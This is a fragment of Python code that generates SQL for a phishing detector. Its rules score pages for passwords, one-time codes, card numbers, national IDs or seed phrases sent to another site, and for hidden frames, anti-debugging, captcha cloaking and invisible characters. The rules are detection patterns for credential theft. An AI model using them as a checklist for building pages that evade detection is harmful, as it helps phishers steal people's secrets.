        f"{p}f AS (SELECT *, {'full_len' if mode == 'page' else 'CAST(length(text) AS BIGINT)'} AS body_len, {d.filter('act_sites', 's', f'NOT {listed(d, "s", dims.IDENTITY_PROVIDERS)}')} AS cross_sites, CAST({d.size(d.filter('act_sites', 's', listed(d, 's', dims.IDENTITY_PROVIDERS)))} AS BIGINT) AS n_idp, CAST({d.size('script_sites')} AS BIGINT) AS n_foreign FROM {p}f3){step(p + 'f')}"
    )


def sensitive(d, tag: str) -> str:
    """Field whose form should not be sent unasked: a narrower test than the feature columns."""
    return f"lower({attr(d, tag, 'type')}) = 'password' OR {d.rx(f'lower({attr(d, tag, "autocomplete")})', 'one-time-code|cc-number')} OR {d.rx(f'lower({attr(d, tag, "name")})', '^(otp|2fa|tfa|verifycode)')} OR {d.rx(attr(d, tag, 'placeholder'), dims.SENSITIVE_PLACEHOLDERS)}"


def dom_facts(d, mode: str = "page", p: str = "") -> str:
    """h: f with what page rules and their texts share."""
    terms = {k: v for k, v in (t.split(":") for t in (dims.TERMS if mode == "page" else dims.TERMS[: dims.EVAL_TERMS]))}
    most = "6" if mode == "page" else str(dims.EVAL_TERMS)
    hay = "concat(title, ' ', text)" if mode == "page" else "text"
    return (
        f"{p}h1 AS (SELECT *, {hay} AS hay, concat(title, ' ', text) AS seen, {d.slice(d.filter(d.entries(terms), 'tm', 'instr(text, tm.key) > 0'), most)} AS terms FROM {p}f), "
        f"{p}h AS (SELECT *, {d.first(d.filter(d.words(dims.TW_HINTS), 'hn', 'instr(hay, hn) > 0'))} AS hint, CAST({d.size('terms')} AS BIGINT) AS n_terms, {d.first('cross_sites')} AS cross_site, {d.map_of(dims.favicon_map())}[icon_site] AS icon_brand FROM {p}h1)"
    )


def dom_rules(d, mode: str = "page") -> list[Rule]:
    """(id, weight, predicate, detail) over h, in order."""
    w = DOM_SIGNALS
    say = lambda *parts: f"concat({', '.join(parts)})"
    claim = "(hint IS NOT NULL OR coalesce(etld1 LIKE '%.tw', false)" + (" OR host LIKE '%.tw')" if mode == "page" else ")")
    wall = "(turnstile OR hcaptcha) AND body_len < 300"
    empty = "n_actions = 0" if mode == "page" else "n_actions = 0 AND NOT has_pw"
    name = "CASE WHEN turnstile THEN 'Turnstile' ELSE 'hCaptcha' END"
    icon = "icon_site IS NOT NULL AND etld1 IS NOT NULL AND icon_site <> etld1"
    brand_icon = "coalesce(icon_brand <> etld1, false)"
    cross = "etld1 IS NOT NULL AND cross_site IS NOT NULL"
    posts = lambda what: say(f"'{what} on '", "etld1", "' goes to '", "cross_site")
    where = lambda p: f"CASE WHEN {d.rx('title', p)} THEN 'title' ELSE 'text' END"
    preds = {
        "dom.password_no_tls": ("has_pw AND scheme = 'http'", "'a password is asked for over http'"),
        "dom.oauth_idp_allowlisted": ("etld1 IS NOT NULL AND n_idp > 0 AND cross_site IS NULL", "'all foreign form targets are known sign-in providers'"),
        "dom.password_cross_etld1_post": (f"has_pw AND {cross}", posts("a password")),
        "dom.otp_cross_etld1_post": (f"has_otp AND {cross}", posts("a one-time code")),
        "dom.card_cross_etld1_post": (f"has_card AND {cross}", posts("a card number")),
        "dom.card_and_password": ("has_card AND has_pw", "'card number and password in one flow'"),
        "dom.tw_pii_combo": ("has_id AND has_card AND has_otp", "'national id, card and one-time code together'"),
        "dom.tw_national_id_cross_etld1_post": (f"has_id AND {cross}", posts("a national id")),
        "dom.seed_phrase_grid": ("seed_grid", "'a form asks for a seed phrase'"),
        "dom.hidden_iframes": ("hidden_iframes > 0", say("hidden_iframes", "' hidden frames'")),
        "dom.tiny_interactive": ("tiny_elements > 0", say("tiny_elements", "' tiny or off-screen controls'")),
        "dom.many_foreign_scripts": ("etld1 IS NOT NULL AND n_foreign > 5", say("'scripts from '", "n_foreign", "' foreign sites'")),
        "dom.anti_debug": ("anti_debug", "'the page hinders inspection'"),
        "dom.cross_strait_terms": (f"{claim} AND n_terms BETWEEN 1 AND 2", say("coalesce(hint, '.tw host')", "': '", d.join(d.map("terms", "tm", "concat(tm.key, '→', tm.value)"), "、"))),
        "dom.cross_strait_terms_strong": (f"{claim} AND n_terms >= 3", say("coalesce(hint, '.tw host')", "': '", d.join(d.map("terms", "tm", "concat(tm.key, '→', tm.value)"), "、"))),
        "dom.cloaking_verify_wall": (f"{wall} AND NOT ({empty})", say(name, "' over '", "body_len", "' characters of text'")),
        "dom.cloaking_verify_wall_strong": (f"{wall} AND {empty}", say(name, "' over '", "body_len", "' characters of text, no form'")),
        "dom.favicon_brand_cdn_mismatch": (f"{icon} AND {brand_icon}", say("'the icon comes from '", "icon_site", "' ('", "icon_brand", "'), the page is on '", "etld1")),
        "dom.favicon_brand_canonical_mismatch": (f"{icon} AND NOT {brand_icon} AND {listed(d, 'icon_site', dims.BRANDS)}", say("'the icon comes from '", "icon_site", "', the page is on '", "etld1")),
        "dom.zero_width_in_text": (d.rx("seen", ZERO_WIDTH), say("'invisible characters in the '", where(ZERO_WIDTH))),
        "dom.bidi_override_in_text": (d.rx("seen", BIDI), say("'direction override in the '", where(BIDI))),
        "dom.tag_char_in_text": (d.rx("seen", TAGS), say("'tag characters in the '", where(TAGS))),
    }
    weights = dict(w) | {"dom.oauth_idp_allowlisted": 0, "dom.hidden_iframes": f"least({HIDDEN_IFRAMES_CAP}, {w['dom.hidden_iframes']} * hidden_iframes)", "dom.tiny_interactive": f"least({TINY_CAP}, {w['dom.tiny_interactive']} * tiny_elements)"}
    off = {"dom.tiny_interactive"} if mode == "eval" else set()  # needs a layout, which the offline evaluation has not
    return [(k, str(weights[k]), f"coalesce({p}, false)", t) for k, (p, t) in preds.items() if k not in off]


def verdict(x: str) -> str:
    return f"CASE WHEN {x} >= 85 THEN 'dangerous' WHEN {x} < 15 THEN 'safe' WHEN {x} >= 50 THEN 'suspicious' ELSE 'caution' END"


def features(d, mode: str = "page", html: str = "html") -> str:
    """h over all pages, without url signals."""
    return f"{urls(d, mode=mode)}, {dom(d, 'u', mode, html)}, {dom_facts(d, mode)}"


def cascade(d, mode: str = "page") -> str:
    """t: per page gate, signals, stage scores, total, verdict and features. In mode eval a high url score does not stop the page rules."""
    stop = "gate <> '' OR s1 >= 85" if mode == "page" else "gate NOT IN ('', 'url.bloomfilter_blacklist_hit')"
    return (
        f"{stage1(d, mode)}, {dom(d, 'g1', mode)}, {dom_facts(d, mode)}, "
        f"t0 AS (SELECT *, {stop} AS short, {fired(d, 'stage2', dom_rules(d, mode))} AS sig2 FROM h), "
        f"t1 AS (SELECT *, CAST(CASE WHEN short THEN 0 ELSE {total(d, 'sig2')} END AS BIGINT) AS s2, CASE WHEN short THEN sig1 ELSE {d.concat('sig1', 'sig2')} END AS sig FROM t0), "
        f"t AS (SELECT *, CAST(least(100, s1 + s2) AS BIGINT) AS total, {verdict('least(100, s1 + s2)')} AS verdict FROM t1){step('t')}"
    )
